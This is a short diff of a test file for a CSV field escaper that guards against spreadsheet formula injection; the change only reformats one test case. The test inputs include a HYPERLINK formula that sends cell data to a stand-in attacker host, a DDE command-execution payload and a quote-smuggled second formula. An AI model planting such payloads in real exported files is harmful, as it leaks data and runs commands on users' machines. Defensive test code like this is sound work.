@@ -10,7 +10,10 @@ describe('csvField (formula injection, SECURITY-TESTS row L)', () => {
     ['\t=1+1', `"'\t=1+1"`],
     ['\r=1+1', `"'\r=1+1"`],
     ['\n=1+1', `"'\n=1+1"`],
-    ['=HYPERLINK("http://evil.example/?d="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")"`],
+    [
+      '=HYPERLINK("http://evil.example/?d="&A1,"click")',
+      `"'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")"`,
+    ],
     ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
     ['=1+2";=1+2', `"'=1+2"";=1+2"`],
     [`=1+2'" ;,=1+2`, `"'=1+2'"" ;,=1+2"`],
